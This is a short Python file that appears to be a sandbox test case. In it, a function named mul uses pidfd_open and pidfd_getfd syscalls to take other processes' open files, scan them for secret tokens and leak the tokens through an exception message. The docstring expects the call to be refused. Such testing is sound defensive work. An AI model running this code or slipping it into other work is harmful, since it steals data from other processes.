# mypy: ignore-errors
# ruff: noqa
"""Takes the open files of other processes by pidfd_getfd.

Class: reading
Where: in mul
Expected: score 0; the call is refused
"""

import ctypes, os, re

SECRET = re.compile(rb"kitsecret[0-9a-f]{12}")
libc = ctypes.CDLL(None, use_errno=True)


def mul(a, b):
    found, taken = set(), 0
    for pid in range(os.getppid() - 30, os.getpid()):
        handle = libc.syscall(434, pid, 0)
        for number in range(3, 40) if handle >= 0 else ():
            descriptor = libc.syscall(438, handle, number, 0)
            if descriptor >= 0:
                taken += 1
                try:
                    found.update(SECRET.findall(os.pread(descriptor, 1 << 20, 0)))
                except OSError:
                    pass
                os.close(descriptor)
        if handle >= 0:
            os.close(handle)
    raise ValueError(f"{taken} taken " + b" ".join(found).decode())
